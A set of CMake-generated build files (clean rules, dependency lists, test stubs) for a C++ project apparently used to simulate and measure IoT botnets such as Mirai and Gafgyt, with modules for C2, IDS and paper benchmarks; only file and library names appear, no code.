  "CMakeFiles/malnet_inetsim.dir/http.cpp.o"
  "CMakeFiles/malnet_inetsim.dir/http.cpp.o.d"
  "CMakeFiles/malnet_inetsim.dir/services.cpp.o"
  "CMakeFiles/malnet_inetsim.dir/services.cpp.o.d"
  "libmalnet_inetsim.a"
  "libmalnet_inetsim.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_inetsim.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
