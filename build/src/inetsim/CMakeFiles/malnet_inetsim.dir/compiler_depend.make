# Empty compiler generated dependencies file for malnet_inetsim.
# This may be replaced when dependencies are built.
