file(REMOVE_RECURSE
  "libmalnet_inetsim.a"
)
