# Empty dependencies file for malnet_proto.
# This may be replaced when dependencies are built.
