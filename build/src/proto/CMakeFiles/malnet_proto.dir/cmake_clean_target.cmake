file(REMOVE_RECURSE
  "libmalnet_proto.a"
)
