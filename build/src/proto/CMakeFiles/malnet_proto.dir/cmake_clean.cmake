file(REMOVE_RECURSE
  "CMakeFiles/malnet_proto.dir/attack.cpp.o"
  "CMakeFiles/malnet_proto.dir/attack.cpp.o.d"
  "CMakeFiles/malnet_proto.dir/daddyl33t.cpp.o"
  "CMakeFiles/malnet_proto.dir/daddyl33t.cpp.o.d"
  "CMakeFiles/malnet_proto.dir/family.cpp.o"
  "CMakeFiles/malnet_proto.dir/family.cpp.o.d"
  "CMakeFiles/malnet_proto.dir/gafgyt.cpp.o"
  "CMakeFiles/malnet_proto.dir/gafgyt.cpp.o.d"
  "CMakeFiles/malnet_proto.dir/irc.cpp.o"
  "CMakeFiles/malnet_proto.dir/irc.cpp.o.d"
  "CMakeFiles/malnet_proto.dir/mirai.cpp.o"
  "CMakeFiles/malnet_proto.dir/mirai.cpp.o.d"
  "CMakeFiles/malnet_proto.dir/p2p.cpp.o"
  "CMakeFiles/malnet_proto.dir/p2p.cpp.o.d"
  "libmalnet_proto.a"
  "libmalnet_proto.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_proto.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
