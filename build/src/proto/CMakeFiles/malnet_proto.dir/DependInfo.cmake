
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/proto/attack.cpp" "src/proto/CMakeFiles/malnet_proto.dir/attack.cpp.o" "gcc" "src/proto/CMakeFiles/malnet_proto.dir/attack.cpp.o.d"
  "/root/repo/src/proto/daddyl33t.cpp" "src/proto/CMakeFiles/malnet_proto.dir/daddyl33t.cpp.o" "gcc" "src/proto/CMakeFiles/malnet_proto.dir/daddyl33t.cpp.o.d"
  "/root/repo/src/proto/family.cpp" "src/proto/CMakeFiles/malnet_proto.dir/family.cpp.o" "gcc" "src/proto/CMakeFiles/malnet_proto.dir/family.cpp.o.d"
  "/root/repo/src/proto/gafgyt.cpp" "src/proto/CMakeFiles/malnet_proto.dir/gafgyt.cpp.o" "gcc" "src/proto/CMakeFiles/malnet_proto.dir/gafgyt.cpp.o.d"
  "/root/repo/src/proto/irc.cpp" "src/proto/CMakeFiles/malnet_proto.dir/irc.cpp.o" "gcc" "src/proto/CMakeFiles/malnet_proto.dir/irc.cpp.o.d"
  "/root/repo/src/proto/mirai.cpp" "src/proto/CMakeFiles/malnet_proto.dir/mirai.cpp.o" "gcc" "src/proto/CMakeFiles/malnet_proto.dir/mirai.cpp.o.d"
  "/root/repo/src/proto/p2p.cpp" "src/proto/CMakeFiles/malnet_proto.dir/p2p.cpp.o" "gcc" "src/proto/CMakeFiles/malnet_proto.dir/p2p.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/net/CMakeFiles/malnet_net.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/malnet_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
