file(REMOVE_RECURSE
  "CMakeFiles/malnet_botnet.dir/c2server.cpp.o"
  "CMakeFiles/malnet_botnet.dir/c2server.cpp.o.d"
  "CMakeFiles/malnet_botnet.dir/downloader.cpp.o"
  "CMakeFiles/malnet_botnet.dir/downloader.cpp.o.d"
  "CMakeFiles/malnet_botnet.dir/p2p_overlay.cpp.o"
  "CMakeFiles/malnet_botnet.dir/p2p_overlay.cpp.o.d"
  "CMakeFiles/malnet_botnet.dir/probe_world.cpp.o"
  "CMakeFiles/malnet_botnet.dir/probe_world.cpp.o.d"
  "CMakeFiles/malnet_botnet.dir/world.cpp.o"
  "CMakeFiles/malnet_botnet.dir/world.cpp.o.d"
  "libmalnet_botnet.a"
  "libmalnet_botnet.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_botnet.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
