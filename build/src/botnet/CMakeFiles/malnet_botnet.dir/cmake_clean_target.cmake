file(REMOVE_RECURSE
  "libmalnet_botnet.a"
)
