# Empty compiler generated dependencies file for malnet_botnet.
# This may be replaced when dependencies are built.
