file(REMOVE_RECURSE
  "CMakeFiles/malnet_ids.dir/engine.cpp.o"
  "CMakeFiles/malnet_ids.dir/engine.cpp.o.d"
  "CMakeFiles/malnet_ids.dir/rules.cpp.o"
  "CMakeFiles/malnet_ids.dir/rules.cpp.o.d"
  "libmalnet_ids.a"
  "libmalnet_ids.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_ids.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
