file(REMOVE_RECURSE
  "libmalnet_ids.a"
)
