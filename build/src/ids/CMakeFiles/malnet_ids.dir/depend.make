# Empty dependencies file for malnet_ids.
# This may be replaced when dependencies are built.
