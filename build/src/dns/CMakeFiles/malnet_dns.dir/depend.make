# Empty dependencies file for malnet_dns.
# This may be replaced when dependencies are built.
