file(REMOVE_RECURSE
  "CMakeFiles/malnet_dns.dir/message.cpp.o"
  "CMakeFiles/malnet_dns.dir/message.cpp.o.d"
  "CMakeFiles/malnet_dns.dir/resolver.cpp.o"
  "CMakeFiles/malnet_dns.dir/resolver.cpp.o.d"
  "CMakeFiles/malnet_dns.dir/server.cpp.o"
  "CMakeFiles/malnet_dns.dir/server.cpp.o.d"
  "libmalnet_dns.a"
  "libmalnet_dns.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_dns.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
