file(REMOVE_RECURSE
  "libmalnet_dns.a"
)
