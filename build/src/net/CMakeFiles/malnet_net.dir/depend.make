# Empty dependencies file for malnet_net.
# This may be replaced when dependencies are built.
