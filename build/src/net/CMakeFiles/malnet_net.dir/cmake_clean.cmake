file(REMOVE_RECURSE
  "CMakeFiles/malnet_net.dir/checksum.cpp.o"
  "CMakeFiles/malnet_net.dir/checksum.cpp.o.d"
  "CMakeFiles/malnet_net.dir/ipv4.cpp.o"
  "CMakeFiles/malnet_net.dir/ipv4.cpp.o.d"
  "CMakeFiles/malnet_net.dir/packet.cpp.o"
  "CMakeFiles/malnet_net.dir/packet.cpp.o.d"
  "CMakeFiles/malnet_net.dir/pcap.cpp.o"
  "CMakeFiles/malnet_net.dir/pcap.cpp.o.d"
  "libmalnet_net.a"
  "libmalnet_net.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_net.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
