file(REMOVE_RECURSE
  "libmalnet_net.a"
)
