file(REMOVE_RECURSE
  "libmalnet_vulndb.a"
)
