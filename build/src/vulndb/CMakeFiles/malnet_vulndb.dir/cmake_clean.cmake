file(REMOVE_RECURSE
  "CMakeFiles/malnet_vulndb.dir/vulndb.cpp.o"
  "CMakeFiles/malnet_vulndb.dir/vulndb.cpp.o.d"
  "libmalnet_vulndb.a"
  "libmalnet_vulndb.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_vulndb.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
