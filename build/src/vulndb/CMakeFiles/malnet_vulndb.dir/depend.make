# Empty dependencies file for malnet_vulndb.
# This may be replaced when dependencies are built.
