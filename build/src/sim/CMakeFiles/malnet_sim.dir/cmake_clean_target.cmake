file(REMOVE_RECURSE
  "libmalnet_sim.a"
)
