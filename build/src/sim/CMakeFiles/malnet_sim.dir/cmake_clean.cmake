file(REMOVE_RECURSE
  "CMakeFiles/malnet_sim.dir/network.cpp.o"
  "CMakeFiles/malnet_sim.dir/network.cpp.o.d"
  "CMakeFiles/malnet_sim.dir/scheduler.cpp.o"
  "CMakeFiles/malnet_sim.dir/scheduler.cpp.o.d"
  "CMakeFiles/malnet_sim.dir/tcp.cpp.o"
  "CMakeFiles/malnet_sim.dir/tcp.cpp.o.d"
  "libmalnet_sim.a"
  "libmalnet_sim.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_sim.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
