# Empty compiler generated dependencies file for malnet_sim.
# This may be replaced when dependencies are built.
