# CMake generated Testfile for 
# Source directory: /root/repo/src
# Build directory: /root/repo/build/src
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
subdirs("util")
subdirs("net")
subdirs("sim")
subdirs("dns")
subdirs("asdb")
subdirs("inetsim")
subdirs("ids")
subdirs("vulndb")
subdirs("proto")
subdirs("mal")
subdirs("botnet")
subdirs("emu")
subdirs("intel")
subdirs("core")
subdirs("report")
