# Empty dependencies file for malnet_mal.
# This may be replaced when dependencies are built.
