
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/mal/behavior.cpp" "src/mal/CMakeFiles/malnet_mal.dir/behavior.cpp.o" "gcc" "src/mal/CMakeFiles/malnet_mal.dir/behavior.cpp.o.d"
  "/root/repo/src/mal/binary.cpp" "src/mal/CMakeFiles/malnet_mal.dir/binary.cpp.o" "gcc" "src/mal/CMakeFiles/malnet_mal.dir/binary.cpp.o.d"
  "/root/repo/src/mal/labels.cpp" "src/mal/CMakeFiles/malnet_mal.dir/labels.cpp.o" "gcc" "src/mal/CMakeFiles/malnet_mal.dir/labels.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/proto/CMakeFiles/malnet_proto.dir/DependInfo.cmake"
  "/root/repo/build/src/vulndb/CMakeFiles/malnet_vulndb.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/malnet_net.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/malnet_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
