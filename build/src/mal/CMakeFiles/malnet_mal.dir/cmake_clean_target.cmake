file(REMOVE_RECURSE
  "libmalnet_mal.a"
)
