file(REMOVE_RECURSE
  "CMakeFiles/malnet_mal.dir/behavior.cpp.o"
  "CMakeFiles/malnet_mal.dir/behavior.cpp.o.d"
  "CMakeFiles/malnet_mal.dir/binary.cpp.o"
  "CMakeFiles/malnet_mal.dir/binary.cpp.o.d"
  "CMakeFiles/malnet_mal.dir/labels.cpp.o"
  "CMakeFiles/malnet_mal.dir/labels.cpp.o.d"
  "libmalnet_mal.a"
  "libmalnet_mal.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_mal.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
