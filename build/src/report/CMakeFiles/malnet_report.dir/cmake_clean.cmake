file(REMOVE_RECURSE
  "CMakeFiles/malnet_report.dir/claims.cpp.o"
  "CMakeFiles/malnet_report.dir/claims.cpp.o.d"
  "CMakeFiles/malnet_report.dir/dataset_io.cpp.o"
  "CMakeFiles/malnet_report.dir/dataset_io.cpp.o.d"
  "CMakeFiles/malnet_report.dir/digest.cpp.o"
  "CMakeFiles/malnet_report.dir/digest.cpp.o.d"
  "CMakeFiles/malnet_report.dir/dossier.cpp.o"
  "CMakeFiles/malnet_report.dir/dossier.cpp.o.d"
  "CMakeFiles/malnet_report.dir/export_series.cpp.o"
  "CMakeFiles/malnet_report.dir/export_series.cpp.o.d"
  "CMakeFiles/malnet_report.dir/figures.cpp.o"
  "CMakeFiles/malnet_report.dir/figures.cpp.o.d"
  "CMakeFiles/malnet_report.dir/render.cpp.o"
  "CMakeFiles/malnet_report.dir/render.cpp.o.d"
  "CMakeFiles/malnet_report.dir/rules_export.cpp.o"
  "CMakeFiles/malnet_report.dir/rules_export.cpp.o.d"
  "CMakeFiles/malnet_report.dir/summary.cpp.o"
  "CMakeFiles/malnet_report.dir/summary.cpp.o.d"
  "CMakeFiles/malnet_report.dir/tables.cpp.o"
  "CMakeFiles/malnet_report.dir/tables.cpp.o.d"
  "libmalnet_report.a"
  "libmalnet_report.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_report.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
