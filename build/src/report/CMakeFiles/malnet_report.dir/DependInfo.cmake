
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/report/claims.cpp" "src/report/CMakeFiles/malnet_report.dir/claims.cpp.o" "gcc" "src/report/CMakeFiles/malnet_report.dir/claims.cpp.o.d"
  "/root/repo/src/report/dataset_io.cpp" "src/report/CMakeFiles/malnet_report.dir/dataset_io.cpp.o" "gcc" "src/report/CMakeFiles/malnet_report.dir/dataset_io.cpp.o.d"
  "/root/repo/src/report/digest.cpp" "src/report/CMakeFiles/malnet_report.dir/digest.cpp.o" "gcc" "src/report/CMakeFiles/malnet_report.dir/digest.cpp.o.d"
  "/root/repo/src/report/dossier.cpp" "src/report/CMakeFiles/malnet_report.dir/dossier.cpp.o" "gcc" "src/report/CMakeFiles/malnet_report.dir/dossier.cpp.o.d"
  "/root/repo/src/report/export_series.cpp" "src/report/CMakeFiles/malnet_report.dir/export_series.cpp.o" "gcc" "src/report/CMakeFiles/malnet_report.dir/export_series.cpp.o.d"
  "/root/repo/src/report/figures.cpp" "src/report/CMakeFiles/malnet_report.dir/figures.cpp.o" "gcc" "src/report/CMakeFiles/malnet_report.dir/figures.cpp.o.d"
  "/root/repo/src/report/render.cpp" "src/report/CMakeFiles/malnet_report.dir/render.cpp.o" "gcc" "src/report/CMakeFiles/malnet_report.dir/render.cpp.o.d"
  "/root/repo/src/report/rules_export.cpp" "src/report/CMakeFiles/malnet_report.dir/rules_export.cpp.o" "gcc" "src/report/CMakeFiles/malnet_report.dir/rules_export.cpp.o.d"
  "/root/repo/src/report/summary.cpp" "src/report/CMakeFiles/malnet_report.dir/summary.cpp.o" "gcc" "src/report/CMakeFiles/malnet_report.dir/summary.cpp.o.d"
  "/root/repo/src/report/tables.cpp" "src/report/CMakeFiles/malnet_report.dir/tables.cpp.o" "gcc" "src/report/CMakeFiles/malnet_report.dir/tables.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/core/CMakeFiles/malnet_core.dir/DependInfo.cmake"
  "/root/repo/build/src/ids/CMakeFiles/malnet_ids.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/malnet_util.dir/DependInfo.cmake"
  "/root/repo/build/src/emu/CMakeFiles/malnet_emu.dir/DependInfo.cmake"
  "/root/repo/build/src/botnet/CMakeFiles/malnet_botnet.dir/DependInfo.cmake"
  "/root/repo/build/src/mal/CMakeFiles/malnet_mal.dir/DependInfo.cmake"
  "/root/repo/build/src/vulndb/CMakeFiles/malnet_vulndb.dir/DependInfo.cmake"
  "/root/repo/build/src/proto/CMakeFiles/malnet_proto.dir/DependInfo.cmake"
  "/root/repo/build/src/inetsim/CMakeFiles/malnet_inetsim.dir/DependInfo.cmake"
  "/root/repo/build/src/dns/CMakeFiles/malnet_dns.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/malnet_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/asdb/CMakeFiles/malnet_asdb.dir/DependInfo.cmake"
  "/root/repo/build/src/intel/CMakeFiles/malnet_intel.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/malnet_net.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
