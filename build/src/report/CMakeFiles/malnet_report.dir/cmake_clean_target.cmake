file(REMOVE_RECURSE
  "libmalnet_report.a"
)
