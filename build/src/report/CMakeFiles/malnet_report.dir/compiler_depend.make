# Empty compiler generated dependencies file for malnet_report.
# This may be replaced when dependencies are built.
