file(REMOVE_RECURSE
  "libmalnet_asdb.a"
)
