file(REMOVE_RECURSE
  "CMakeFiles/malnet_asdb.dir/asdb.cpp.o"
  "CMakeFiles/malnet_asdb.dir/asdb.cpp.o.d"
  "libmalnet_asdb.a"
  "libmalnet_asdb.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_asdb.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
