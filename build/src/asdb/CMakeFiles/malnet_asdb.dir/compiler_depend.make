# Empty compiler generated dependencies file for malnet_asdb.
# This may be replaced when dependencies are built.
