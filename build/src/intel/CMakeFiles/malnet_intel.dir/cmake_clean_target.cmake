file(REMOVE_RECURSE
  "libmalnet_intel.a"
)
