file(REMOVE_RECURSE
  "CMakeFiles/malnet_intel.dir/threat_intel.cpp.o"
  "CMakeFiles/malnet_intel.dir/threat_intel.cpp.o.d"
  "libmalnet_intel.a"
  "libmalnet_intel.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_intel.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
