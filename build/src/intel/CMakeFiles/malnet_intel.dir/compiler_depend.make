# Empty compiler generated dependencies file for malnet_intel.
# This may be replaced when dependencies are built.
