# Empty dependencies file for malnet_emu.
# This may be replaced when dependencies are built.
