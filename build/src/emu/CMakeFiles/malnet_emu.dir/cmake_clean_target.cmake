file(REMOVE_RECURSE
  "libmalnet_emu.a"
)
