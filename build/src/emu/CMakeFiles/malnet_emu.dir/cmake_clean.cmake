file(REMOVE_RECURSE
  "CMakeFiles/malnet_emu.dir/attackgen.cpp.o"
  "CMakeFiles/malnet_emu.dir/attackgen.cpp.o.d"
  "CMakeFiles/malnet_emu.dir/malproc.cpp.o"
  "CMakeFiles/malnet_emu.dir/malproc.cpp.o.d"
  "CMakeFiles/malnet_emu.dir/sandbox.cpp.o"
  "CMakeFiles/malnet_emu.dir/sandbox.cpp.o.d"
  "libmalnet_emu.a"
  "libmalnet_emu.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_emu.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
