file(REMOVE_RECURSE
  "libmalnet_core.a"
)
