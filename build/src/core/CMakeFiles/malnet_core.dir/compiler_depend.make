# Empty compiler generated dependencies file for malnet_core.
# This may be replaced when dependencies are built.
