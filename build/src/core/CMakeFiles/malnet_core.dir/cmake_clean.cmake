file(REMOVE_RECURSE
  "CMakeFiles/malnet_core.dir/c2detect.cpp.o"
  "CMakeFiles/malnet_core.dir/c2detect.cpp.o.d"
  "CMakeFiles/malnet_core.dir/ddos.cpp.o"
  "CMakeFiles/malnet_core.dir/ddos.cpp.o.d"
  "CMakeFiles/malnet_core.dir/exploit_id.cpp.o"
  "CMakeFiles/malnet_core.dir/exploit_id.cpp.o.d"
  "CMakeFiles/malnet_core.dir/offline.cpp.o"
  "CMakeFiles/malnet_core.dir/offline.cpp.o.d"
  "CMakeFiles/malnet_core.dir/p2p_crawl.cpp.o"
  "CMakeFiles/malnet_core.dir/p2p_crawl.cpp.o.d"
  "CMakeFiles/malnet_core.dir/pipeline.cpp.o"
  "CMakeFiles/malnet_core.dir/pipeline.cpp.o.d"
  "CMakeFiles/malnet_core.dir/prober.cpp.o"
  "CMakeFiles/malnet_core.dir/prober.cpp.o.d"
  "libmalnet_core.a"
  "libmalnet_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
