# CMake generated Testfile for 
# Source directory: /root/repo/tools
# Build directory: /root/repo/build/tools
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
add_test(malnetctl_forge_inspect "/usr/bin/cmake" "-DCTL=/root/repo/build/tools/malnetctl" "-P" "/root/repo/tools/smoke_test.cmake")
set_tests_properties(malnetctl_forge_inspect PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/tools/CMakeLists.txt;5;add_test;/root/repo/tools/CMakeLists.txt;0;")
