file(REMOVE_RECURSE
  "CMakeFiles/malnetctl.dir/malnetctl.cpp.o"
  "CMakeFiles/malnetctl.dir/malnetctl.cpp.o.d"
  "malnetctl"
  "malnetctl.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnetctl.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
