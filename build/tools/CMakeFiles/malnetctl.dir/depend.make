# Empty dependencies file for malnetctl.
# This may be replaced when dependencies are built.
