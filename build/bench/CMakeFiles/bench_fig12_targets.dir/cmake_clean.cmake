file(REMOVE_RECURSE
  "CMakeFiles/bench_fig12_targets.dir/bench_fig12_targets.cpp.o"
  "CMakeFiles/bench_fig12_targets.dir/bench_fig12_targets.cpp.o.d"
  "bench_fig12_targets"
  "bench_fig12_targets.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig12_targets.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
