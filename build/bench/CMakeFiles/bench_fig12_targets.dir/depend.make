# Empty dependencies file for bench_fig12_targets.
# This may be replaced when dependencies are built.
