# Empty dependencies file for bench_fig4_probe_raster.
# This may be replaced when dependencies are built.
