file(REMOVE_RECURSE
  "CMakeFiles/bench_table4_vulns.dir/bench_table4_vulns.cpp.o"
  "CMakeFiles/bench_table4_vulns.dir/bench_table4_vulns.cpp.o.d"
  "bench_table4_vulns"
  "bench_table4_vulns.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table4_vulns.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
