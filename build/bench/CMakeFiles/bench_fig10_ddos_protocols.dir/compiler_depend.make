# Empty compiler generated dependencies file for bench_fig10_ddos_protocols.
# This may be replaced when dependencies are built.
