file(REMOVE_RECURSE
  "CMakeFiles/bench_fig3_lifetime_domain.dir/bench_fig3_lifetime_domain.cpp.o"
  "CMakeFiles/bench_fig3_lifetime_domain.dir/bench_fig3_lifetime_domain.cpp.o.d"
  "bench_fig3_lifetime_domain"
  "bench_fig3_lifetime_domain.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig3_lifetime_domain.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
