# Empty dependencies file for bench_fig3_lifetime_domain.
# This may be replaced when dependencies are built.
