# Empty dependencies file for bench_fig7_vendor_cdf.
# This may be replaced when dependencies are built.
