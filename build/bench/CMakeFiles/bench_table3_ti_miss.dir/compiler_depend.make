# Empty compiler generated dependencies file for bench_table3_ti_miss.
# This may be replaced when dependencies are built.
