file(REMOVE_RECURSE
  "CMakeFiles/bench_table3_ti_miss.dir/bench_table3_ti_miss.cpp.o"
  "CMakeFiles/bench_table3_ti_miss.dir/bench_table3_ti_miss.cpp.o.d"
  "bench_table3_ti_miss"
  "bench_table3_ti_miss.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table3_ti_miss.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
