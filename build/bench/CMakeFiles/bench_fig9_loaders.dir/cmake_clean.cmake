file(REMOVE_RECURSE
  "CMakeFiles/bench_fig9_loaders.dir/bench_fig9_loaders.cpp.o"
  "CMakeFiles/bench_fig9_loaders.dir/bench_fig9_loaders.cpp.o.d"
  "bench_fig9_loaders"
  "bench_fig9_loaders.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig9_loaders.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
