# Empty dependencies file for bench_fig9_loaders.
# This may be replaced when dependencies are built.
