# Empty compiler generated dependencies file for bench_ablation_ti_aggregation.
# This may be replaced when dependencies are built.
