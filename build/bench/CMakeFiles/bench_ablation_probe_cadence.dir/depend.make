# Empty dependencies file for bench_ablation_probe_cadence.
# This may be replaced when dependencies are built.
