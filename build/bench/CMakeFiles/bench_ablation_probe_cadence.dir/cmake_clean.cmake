file(REMOVE_RECURSE
  "CMakeFiles/bench_ablation_probe_cadence.dir/bench_ablation_probe_cadence.cpp.o"
  "CMakeFiles/bench_ablation_probe_cadence.dir/bench_ablation_probe_cadence.cpp.o.d"
  "bench_ablation_probe_cadence"
  "bench_ablation_probe_cadence.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ablation_probe_cadence.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
