file(REMOVE_RECURSE
  "CMakeFiles/bench_fig2_lifetime_ip.dir/bench_fig2_lifetime_ip.cpp.o"
  "CMakeFiles/bench_fig2_lifetime_ip.dir/bench_fig2_lifetime_ip.cpp.o.d"
  "bench_fig2_lifetime_ip"
  "bench_fig2_lifetime_ip.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig2_lifetime_ip.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
