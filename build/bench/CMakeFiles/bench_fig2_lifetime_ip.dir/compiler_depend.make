# Empty compiler generated dependencies file for bench_fig2_lifetime_ip.
# This may be replaced when dependencies are built.
