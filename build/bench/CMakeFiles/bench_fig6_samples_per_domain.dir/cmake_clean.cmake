file(REMOVE_RECURSE
  "CMakeFiles/bench_fig6_samples_per_domain.dir/bench_fig6_samples_per_domain.cpp.o"
  "CMakeFiles/bench_fig6_samples_per_domain.dir/bench_fig6_samples_per_domain.cpp.o.d"
  "bench_fig6_samples_per_domain"
  "bench_fig6_samples_per_domain.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig6_samples_per_domain.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
