# Empty compiler generated dependencies file for bench_fig6_samples_per_domain.
# This may be replaced when dependencies are built.
