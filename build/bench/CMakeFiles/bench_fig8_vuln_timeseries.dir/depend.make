# Empty dependencies file for bench_fig8_vuln_timeseries.
# This may be replaced when dependencies are built.
