file(REMOVE_RECURSE
  "CMakeFiles/bench_ablation_pps.dir/bench_ablation_pps.cpp.o"
  "CMakeFiles/bench_ablation_pps.dir/bench_ablation_pps.cpp.o.d"
  "bench_ablation_pps"
  "bench_ablation_pps.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ablation_pps.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
