# Empty dependencies file for bench_ablation_pps.
# This may be replaced when dependencies are built.
