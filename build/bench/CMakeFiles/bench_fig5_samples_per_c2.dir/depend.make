# Empty dependencies file for bench_fig5_samples_per_c2.
# This may be replaced when dependencies are built.
