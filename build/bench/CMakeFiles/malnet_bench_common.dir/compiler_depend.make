# Empty compiler generated dependencies file for malnet_bench_common.
# This may be replaced when dependencies are built.
