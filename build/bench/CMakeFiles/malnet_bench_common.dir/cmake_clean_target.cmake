file(REMOVE_RECURSE
  "libmalnet_bench_common.a"
)
