file(REMOVE_RECURSE
  "CMakeFiles/malnet_bench_common.dir/common.cpp.o"
  "CMakeFiles/malnet_bench_common.dir/common.cpp.o.d"
  "libmalnet_bench_common.a"
  "libmalnet_bench_common.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_bench_common.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
