file(REMOVE_RECURSE
  "CMakeFiles/bench_table7_vendors.dir/bench_table7_vendors.cpp.o"
  "CMakeFiles/bench_table7_vendors.dir/bench_table7_vendors.cpp.o.d"
  "bench_table7_vendors"
  "bench_table7_vendors.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table7_vendors.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
