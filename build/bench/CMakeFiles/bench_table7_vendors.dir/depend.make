# Empty dependencies file for bench_table7_vendors.
# This may be replaced when dependencies are built.
