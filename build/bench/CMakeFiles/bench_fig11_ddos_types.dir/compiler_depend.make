# Empty compiler generated dependencies file for bench_fig11_ddos_types.
# This may be replaced when dependencies are built.
