# CMake generated Testfile for 
